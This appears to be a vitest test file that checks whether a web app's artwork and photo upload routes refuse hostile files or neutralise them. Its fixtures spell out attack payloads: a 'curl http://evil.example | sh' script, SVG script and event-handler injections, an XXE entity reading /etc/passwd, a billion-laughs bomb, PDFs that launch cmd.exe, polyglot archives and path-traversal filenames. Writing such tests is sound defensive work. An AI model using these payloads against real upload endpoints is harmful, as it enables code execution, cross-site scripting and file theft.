import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { PNG } from 'pngjs';
import type request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { ARTWORK_MAX_BYTES, PHOTO_MAX_BYTES } from '@tracewright/shared';

import { startS3Fake, type S3Fake } from '../../src/dev/s3-fake';
import { StoredFileModel } from '../../src/models/stored-file.model';
import { signedInUser, type SignedIn } from '../fixtures';
import { createTestContext, type TestContext } from '../test-context';

let t: TestContext;
let s3: S3Fake;
let s3Dir: string;
let engineer: SignedIn;
beforeAll(async () => {
  s3Dir = mkdtempSync(join(tmpdir(), 'tw-s3-hostile-'));
  s3 = await startS3Fake({ directory: s3Dir });
  t = await createTestContext({ S3_ENDPOINT: s3.endpoint, S3_BUCKET: 'hostile-uploads' });
  await t.ctx.storage.ensureBucket();
  // Engineers may post to both routes: artwork as authors, photos as run crew.
  engineer = await signedInUser(t.app, 'engineer');
});
afterAll(async () => {
  await t.close();
  await s3.close();
  rmSync(s3Dir, { recursive: true, force: true });
});

// ---- Files built here, byte by byte: each is what an attacker would send, not a real program. ----

const latin1 = (text: string) => Buffer.from(text, 'latin1');
function png(): Buffer {
  const image = new PNG({ width: 4, height: 4 });
  image.data.fill(255);
  return PNG.sync.write(image);
}
const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), latin1('JFIF\0'), Buffer.alloc(64, 0x20), Buffer.from([0xff, 0xd9])]);
/** A local-file header and end-of-directory record: enough for unzip tools to see an archive. */
const ZIP = Buffer.concat([latin1('PK\x03\x04\x14\x00\x00\x00\x00\x00'), Buffer.alloc(16, 0), latin1('\x08\x00\x00\x00evil.jsp<% x %>PK\x05\x06'), Buffer.alloc(18, 0)]);
const ELF = Buffer.concat([latin1('\x7fELF\x02\x01\x01\x00'), Buffer.alloc(8, 0), latin1('\x02\x00\x3e\x00\x01\x00\x00\x00'), Buffer.alloc(200, 0x90)]);
const PE = Buffer.concat([latin1('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff'), Buffer.alloc(44, 0), latin1('\x80\x00\x00\x00'), Buffer.alloc(64, 0), latin1('PE\0\0\x4c\x01'), Buffer.alloc(100, 0)]);
const MACH_O = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]), Buffer.alloc(120, 0)]);
const svg = (inner: string, rootAttributes = '') =>
  Buffer.from(`<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${rootAttributes}><path id="p" d="M1 1 H9"/>${inner}</svg>`);
const pdf = (body: string) => latin1(`%PDF-1.7\n${body}\ntrailer << /Root 1 0 R >>\n%%EOF\n`);

type Outcome = 'refused' | 'stored';
interface HostileFile {
  label: string;
  name: string;
  bytes: Buffer;
  /** What the browser claims; the server must decide from the bytes. */
  claimedType?: string;
  artwork: Outcome;
  photo: Outcome;
  /** Text that must not survive into what is stored and served back. */
  inert?: RegExp;
}

const HOSTILE_FILES: HostileFile[] = [
  { label: 'an ELF executable renamed .png', name: 'layer.png', bytes: ELF, artwork: 'refused', photo: 'refused' },
  { label: 'a Windows PE executable renamed .png', name: 'layer.png', bytes: PE, artwork: 'refused', photo: 'refused' },
  { label: 'a Mach-O executable renamed .jpg', name: 'camera.jpg', bytes: MACH_O, artwork: 'refused', photo: 'refused' },
  { label: 'a shell script renamed .png', name: 'layer.png', bytes: latin1('#!/bin/sh\ncurl http://evil.example | sh\n'), artwork: 'refused', photo: 'refused' },
  { label: 'a GIF with a Java archive appended (GIFAR)', name: 'strip.gif', bytes: Buffer.concat([latin1('GIF89a\x01\x00\x01\x00\x00\x00\x00;'), ZIP]), artwork: 'refused', photo: 'refused' },
  { label: 'a JPEG with a ZIP appended (polyglot)', name: 'bench.jpg', bytes: Buffer.concat([JPEG, ZIP]), artwork: 'refused', photo: 'stored' },
  { label: 'HTML disguised as .jpg', name: 'bench.jpg', bytes: Buffer.from('<!doctype html><html><body><script>fetch("/api/users")</script></body></html>'), claimedType: 'image/jpeg', artwork: 'refused', photo: 'refused' },
  { label: 'an SVG with a <script> element', name: 'keys.svg', bytes: svg('<script>fetch("/api/users")</script><svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'), artwork: 'stored', photo: 'refused', inert: /<([\w-]+:)?script|fetch\(/i },
  { label: 'an SVG with onload= and onclick= handlers', name: 'keys.svg', bytes: svg('<rect width="2" height="2" onclick="alert(2)"/>', ' onload="alert(1)"'), artwork: 'stored', photo: 'refused', inert: /onload|onclick|alert/i },
  { label: 'an SVG with a javascript: link', name: 'keys.svg', bytes: svg('<a href="javascript:alert(1)"><rect width="2" height="2"/></a><a xlink:href="JaVaScRiPt:alert(2)"><circle r="1"/></a>'), artwork: 'stored', photo: 'refused', inert: /javascript|alert/i },
  { label: 'an SVG with a <foreignObject> of HTML', name: 'keys.svg', bytes: svg('<foreignObject width="5" height="5"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>'), artwork: 'stored', photo: 'refused', inert: /foreignObject|iframe|evil\.example/i },
  { label: 'an SVG with an external xlink:href image', name: 'keys.svg', bytes: svg('<image xlink:href="https://tracker.example/p.png" width="1" height="1"/><use xlink:href="https://evil.example/sprite.svg#x"/>'), artwork: 'stored', photo: 'refused', inert: /tracker\.example|evil\.example/ },
  { label: 'an SVG with @import and url(http…) in a style sheet', name: 'keys.svg', bytes: svg('<style>@import url("https://evil.example/a.css"); path { fill: url(https://evil.example/b.svg#g) }</style>'), artwork: 'stored', photo: 'refused', inert: /@import|evil\.example/ },
  { label: 'an SVG with url(http…) in a style attribute', name: 'keys.svg', bytes: svg('<rect width="3" height="3" style="fill: url(http://evil.example/x#y)" filter="url(https://evil.example/f#f)"/>'), artwork: 'stored', photo: 'refused', inert: /evil\.example/ },
  { label: 'an SVG declaring an external entity (XXE)', name: 'keys.svg', bytes: Buffer.from('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>'), artwork: 'refused', photo: 'refused' },
  { label: 'an SVG entity bomb (billion laughs)', name: 'keys.svg', bytes: Buffer.from(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`), artwork: 'refused', photo: 'refused' },
  { label: 'a PDF that runs JavaScript on open', name: 'layer.pdf', bytes: pdf('1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj'), artwork: 'refused', photo: 'refused' },
  { label: 'a PDF that launches a program on open', name: 'layer.pdf', bytes: pdf('1 0 obj << /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj'), artwork: 'refused', photo: 'refused' },
  { label: 'a zero-byte file', name: 'empty.png', bytes: Buffer.alloc(0), artwork: 'refused', photo: 'refused' },
  { label: 'a file over both size limits', name: 'huge.png', bytes: Buffer.concat([png(), Buffer.alloc(Math.max(ARTWORK_MAX_BYTES, PHOTO_MAX_BYTES))]), artwork: 'refused', photo: 'refused' },
  { label: 'a PNG named ../../etc/passwd', name: '../../etc/passwd', bytes: png(), artwork: 'stored', photo: 'stored' },
  { label: 'a PNG named ..\\..\\boot.ini', name: '..\\..\\boot.ini', bytes: png(), artwork: 'stored', photo: 'stored' },
  { label: 'a PNG named with encoded dots %2e%2e%2f', name: '%2e%2e%2f%2e%2e%2fkey.png', bytes: png(), artwork: 'stored', photo: 'stored' },
  // The form parser itself refuses a header with NUL in it, before any name is used.
  { label: 'a PNG with a NUL byte in its name', name: 'layer.png\u0000.exe', bytes: png(), artwork: 'refused', photo: 'refused' },
  { label: 'a PNG with a 1,000-character name', name: `${'n'.repeat(1000)}.png`, bytes: png(), artwork: 'stored', photo: 'stored' },
  { label: 'a JPEG named photo.jpg.exe', name: 'photo.jpg.exe', bytes: JPEG, artwork: 'refused', photo: 'stored' },
  { label: 'a PNG sent as text/html', name: 'layer.html', bytes: png(), claimedType: 'text/html', artwork: 'stored', photo: 'stored' },
];

const ROUTES = [
  { route: 'artwork', url: '/api/files/artwork' },
  { route: 'photo', url: '/api/files/photos' },
] as const;

const CASES = HOSTILE_FILES.flatMap((file) => ROUTES.map(({ route, url }) => [file.label, route, url, file] as const));

const uploadsBy = (who: SignedIn) => StoredFileModel.count({ where: { uploadedBy: who.user.id } });
const binary = (res: request.Test) =>
  res.buffer(true).parse((r, done) => {
    const chunks: Buffer[] = [];
    r.on('data', (c: Buffer) => chunks.push(c));
    r.on('end', () => done(null, Buffer.concat(chunks)));
  });

/** The multipart filename parameter is raw bytes in the header; NUL and quotes must get through as sent. */
function upload(url: string, file: HostileFile) {
  return engineer.agent.post(url).set('X-CSRF-Token', engineer.csrf).attach('file', file.bytes, { filename: file.name, contentType: file.claimedType ?? 'application/octet-stream' });
}

describe('hostile uploads', () => {
  it('when the table is counted, then it holds at least 20 distinct hostile files', () => {
    expect(new Set(HOSTILE_FILES.map((f) => f.label)).size).toBeGreaterThanOrEqual(20);
  });

  it.each(CASES)('when %s is posted as %s, then it is refused or stored inert under a key of ours', async (_label, route, url, file) => {
    const before = await uploadsBy(engineer);
    const res = await upload(url, file);
    const expected = file[route];
    if (expected === 'refused') {
      expect(res.status, JSON.stringify(res.body)).toBeGreaterThanOrEqual(400);
      expect(res.status).toBeLessThan(500);
      expect(res.body.error.message).toEqual(expect.any(String));
      expect(await uploadsBy(engineer)).toBe(before);
      return;
    }
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const row = await StoredFileModel.findByPk(res.body.id);
    const folder = route === 'artwork' ? 'artwork' : 'photos';
    // Our key: a random UUID and the extension the content has, never anything of the client's name.
    expect(row?.storageKey).toMatch(new RegExp(`^${folder}/[0-9a-f-]{36}\\.(png|svg|pdf|jpg|webp)$`));
    const shown = row?.displayName ?? '';
    expect(shown).not.toMatch(/[\\/]|^\./);
    expect([...shown].every((ch) => ch.charCodeAt(0) >= 0x20)).toBe(true);
    expect(row?.displayName.length).toBeLessThanOrEqual(120);

    const back = await binary(engineer.agent.get(`/api/files/${res.body.id}`));
    expect(back.status).toBe(200);
    // Only the types we stored are served; never HTML, script or generic XML a browser would run.
    expect(back.headers['content-type']).toMatch(/^(image\/(png|jpeg|webp|svg\+xml)|application\/pdf)(;|$)/);
    expect(back.headers['x-content-type-options']).toBe('nosniff');
    expect(back.headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/);
    // Anything a browser would not simply draw is offered as a download.
    if (!/^image\//.test(back.headers['content-type'] ?? '')) expect(back.headers['content-disposition']).toMatch(/^attachment/);
    if (file.inert) expect((back.body as Buffer).toString('utf8')).not.toMatch(file.inert);
  });
});
